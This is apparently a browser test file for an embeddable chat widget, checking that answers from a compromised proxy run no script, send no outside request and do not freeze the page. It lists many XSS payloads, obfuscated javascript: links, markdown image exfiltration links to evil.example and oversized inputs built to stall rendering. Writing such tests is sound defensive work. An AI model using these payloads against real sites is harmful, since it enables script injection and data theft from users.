/** Hostile answers in a real browser: no script runs, no request is sent, and the page stays responsive. */
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openBrowser, visit } from "../testing/browser.ts";
import { chatOn } from "../testing/chat-page.ts";
import { measureWork } from "../testing/main-thread.ts";
import { openPretendProxy, type PretendProxy } from "../testing/pretend-proxy.ts";

let browser: Browser;
let proxy: PretendProxy;

beforeAll(async () => {
  [browser, proxy] = await Promise.all([openBrowser(), openPretendProxy()]);
});
afterAll(async () => {
  await browser.close();
  await proxy.close();
});

/** Sets a flag on the page if it ever runs. */
const payload = "window.harmed=1";

const attacks = [
  `<script>${payload}</script>`,
  `<img src=x onerror="${payload}"><svg onload="${payload}"><svg/onload=${payload}>`,
  `<iframe srcdoc="<script>parent.${payload}</script>"></iframe><object data="javascript:${payload}"></object>`,
  `<a href="javascript:${payload}">raw</a> <form action="javascript:${payload}"><button>go</button></form>`,
  `<style>*{display:none}</style><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<details open ontoggle=${payload}><video><source onerror=${payload}></video><math><mtext><img src=x onerror=${payload}>`,
  `[plain](javascript:${payload}) [case](JaVaScRiPt:${payload}) [space](<  javascript:${payload}>) [tab](<java\tscript:${payload}>)`,
  `[entity](&#106;avascript:${payload}) [hex](&#x6A;&#x61;vascript&#58;${payload}) [colon](javascript&colon;${payload}) [escape](javascript\\:${payload})`,
  `[line](<java&#10;script:${payload}>) [null](java\0script:${payload}) [control](<&#1;javascript:${payload}>) [wide](ｊavascript:${payload})`,
  `[data](data:text/html,<script>${payload}</script>) [b64](data:text/html;base64,PHNjcmlwdD4=) [vb](vbscript:x) [blob](blob:x) [file](file:///etc/passwd)`,
  `<javascript:${payload}> <data:text/html,x> javascript:${payload} [ref][r] [r]\n\n[r]: javascript:${payload} "title"`,
  `[title](https://a.example "\\" onmouseover=${payload} x=\\"") [quote](https://a.example/"onclick="${payload})`,
  `![exfiltration](https://evil.example/?d=secret) ![](//evil.example/x.png) ![data](data:image/svg+xml,<svg onload=${payload}>)`,
  `[![nested](https://evil.example/1.png)](https://evil.example) ![ref][pic]\n\n[pic]: https://evil.example/2.png`,
  `| ![cell](https://evil.example/3.png) |\n|---|\n| <img src=https://evil.example/4.png> |`,
  `# ![head](https://evil.example/5.png)\n\n> - ![deep](https://evil.example/6.png)`,
  '```html"><script>\n</code></pre><script>' + payload + "</script>\n```",
  "[constructor] [__proto__][toString] &constructor; `</code><script>` [x](constructor:x)",
  `[about](about:blank) [view](view-source:https://a.example) [intent](intent:x) [twice](https:javascript:${payload}) [tabs](java&Tab;script&colon;${payload})`,
  `[![click](javascript:${payload})](javascript:${payload}) <https://a.example/"onclick=${payload}> <a@a.example?x=javascript:${payload}>`,
  `Noted[^1].\n\n[^1]: [foot](javascript:${payload}) ![note](https://evil.example/7.png) <img src=x onerror=${payload}>`,
  `- [ ] <input autofocus onfocus=${payload}> ![task](https://evil.example/8.png)\n- [x] [done](javascript:${payload})`,
  `~~<marquee onstart=${payload}>~~ **<link rel=prefetch href=https://evil.example/9>** <audio src=https://evil.example/10 autoplay>`,
];

/** Sources that a compromised proxy might send. */
const badSources = [
  {
    id: "1",
    title: `<img src=x onerror=${payload}>`,
    url: `javascript:${payload}`,
    description: null,
    image: null,
  },
  {
    id: "2",
    title: "Picture",
    url: "https://a.example/",
    description: `<script>${payload}</script>`,
    image: "https://evil.example/11.png",
  },
  { id: "3", title: "Data", url: "data:text/html,x", description: null, image: `javascript:${payload}` },
];

const strictPage = `<!doctype html><html lang="en"><title>A page that allows no text to become code</title>
<meta http-equiv="content-security-policy" content="require-trusted-types-for 'script'; trusted-types 'none'">
<body><script src="/widget.js" async></script>`;

/** Allowed tags, attributes and link schemes of an answer. */
const harmless = {
  tags: `a bdi blockquote br button code del div em h4 input li ol output p path pre rect span strong sup svg table tbody
    td th thead tr ul`,
  attributes: `aria-hidden aria-label aria-live checked class cx cy d data-number dir disabled height href lang part r rel
    role rx scope start tabindex target title type viewBox width x y`,
};

function dangersIn(answer: Element, { tags, attributes }: typeof harmless): string[] {
  const elements = [...answer.querySelectorAll("*")];
  const known = (list: string) => new Set(list.split(/\s+/));
  const [knownTags, knownAttributes] = [known(tags), known(attributes)];
  const found = elements.flatMap((element) => [
    ...(knownTags.has(element.localName) ? [] : [`<${element.localName}>`]),
    ...element.getAttributeNames().filter((name) => !knownAttributes.has(name)),
    ...[element.getAttribute("href") ?? "https:"].filter((href) => !/^(https?|mailto|tel):/.test(href)),
  ]);
  return [...new Set(found)];
}

it("an answer full of attacks runs no script, sends no request, and has no dangerous link", async () => {
  proxy.put("/strict", strictPage);
  const { page, context, requests, complaints } = await visit(browser, { reducedMotion: "reduce" });
  await page.goto(`${proxy.address}/strict`);
  const chat = chatOn(page);
  await chat.open();
  const drawn: string[] = [];
  for (const pace of [
    { characters: 3, pieces: 20, everyMs: 8 },
    { characters: 100_000, pieces: 1, everyMs: 0 },
  ]) {
    const question = `Attack, ${pace.characters} at once!`;
    proxy.answer(question, { text: attacks.join("\n\n"), pace, citations: badSources });
    await chat.ask(question);
    await chat.answered(drawn.length + 1);
    await chat.answer.getByRole("button", { name: "Copy code" }).waitFor();
    expect(await chat.answer.evaluate(dangersIn, harmless)).toEqual([]);
    drawn.push(await chat.answer.evaluate((answer) => answer.innerHTML));
  }
  expect(drawn[1]).toBe(drawn[0]);
  for (const card of await chat.citations.all())
    expect((await card.getAttribute("href")) ?? "https:").toMatch(/^https:/);
  // Everything is clicked, with navigation prevented.
  await page.evaluate(() => document.addEventListener("click", (event) => event.preventDefault(), true));
  await chat.answer.evaluate((answer) => answer.querySelectorAll("a").forEach((link) => link.click()));
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => Reflect.get(window, "harmed"))).toBeUndefined();
  expect(requests.filter((address) => !address.startsWith(proxy.address))).toEqual([]);
  expect(complaints).toEqual([]);
  await context.close();
});

/** More than our proxy lets through: the widget must cope by itself. */
const many = 400_000;
const repeated = (text: string, size: number) => text.repeat(Math.ceil(size / text.length));
const table = (columns: number, rows: number) =>
  `${"| head ".repeat(columns)}|\n${"|---".repeat(columns)}|\n${`${"| cell ".repeat(columns)}|\n`.repeat(rows)}`;
const code = (text: string) => `\`\`\`js\n${text}\n\`\`\``;

const huge: Record<string, readonly string[]> = {
  "400,000 brackets": [repeated("[", many)],
  "lines of 100,000 signs": ["*", "|", ">", "a"].map((sign) => `${repeated(sign, many / 4)}a`),
  "what is 10,000 deep": [
    `${"> ".repeat(10_000)}a`,
    `${"- ".repeat(10_000)}a`,
    `${"*a ".repeat(10_000)}${"b* ".repeat(10_000)}`,
    `${"[a ".repeat(10_000)}${"](https://a.example)".repeat(10_000)}`,
    `${"> ".repeat(78)}${repeated("1 ", many / 2)}`,
    Array.from({ length: 250 }, (_, depth) => `${"  ".repeat(depth)}- a`).join("\n"),
  ],
  "giant tables": [table(20, 400), table(100, 40)],
  "blocks without an end": [
    `# ${repeated("word ", 60_000)}`,
    `| a |\n|---|\n| ${repeated("word ", 60_000)} |`,
    code(repeated("a+", 60_000)),
    code(repeated('call("a", 1); // b\n', 60_000)),
    Array.from({ length: 300 }, (_, length) => "`".repeat(length)).join(" "),
  ],
  "footnotes that may name a source": [
    `[^1]: ${repeated("[a](https://a.example/a) ", many / 3)}`,
    Array.from({ length: 2000 }, (_, at) => `[^n${at}]: a`).join("\n\n"),
  ],
  "nothing but links, pictures, markers and emphasis": [
    repeated("![](https://evil.example/?d=x) ", 40_000),
    repeated("[a](https://a.example) ", 40_000),
    repeated("a [1] ", 40_000),
    repeated("*a **b _c __d ", 40_000),
  ],
};

const ways = {
  "in pieces": { characters: 2048, pieces: 4, everyMs: 4 },
  whole: { characters: 10 * many, pieces: 1, everyMs: 0 },
};

/** Waits until the newest answer is complete, without forcing a layout. */
const shown = (page: Page, count: number) =>
  page.waitForFunction(
    (expected) => {
      const answers = document
        .querySelector("customgpt-widget")
        ?.shadowRoot?.querySelectorAll("[part~=answer]");
      return answers?.length === expected && answers[expected - 1]?.textContent.endsWith("The end.");
    },
    count,
    { polling: 250, timeout: 60_000 },
  );

describe("an answer of", { timeout: 180_000 }, () => {
  it.each(Object.entries(huge))("%s is shown without freezing the page", async (name, blocks) => {
    const { page, context, requests, complaints } = await visit(browser, { reducedMotion: "reduce" });
    await page.goto(proxy.address);
    const chat = chatOn(page);
    await chat.open();
    const text = [...blocks, "The end."].join("\n\n");
    for (const [count, [way, pace]] of Object.entries(ways).entries()) {
      const question = `${name}, ${way}`;
      proxy.answer(question, { text, pace, citations: badSources });
      await chat.input.fill(question);
      const { longestTask } = await measureWork(browser, page, async () => {
        await page.keyboard.press("Enter");
        await shown(page, count + 1);
      });
      // CPU time, which depends little on other load: at most 160 when this was written, thousands in a freeze.
      expect(longestTask, way).toBeLessThan(500);
    }
    expect(requests.filter((address) => !address.startsWith(proxy.address))).toEqual([]);
    expect(complaints).toEqual([]);
    await context.close();
  });
});
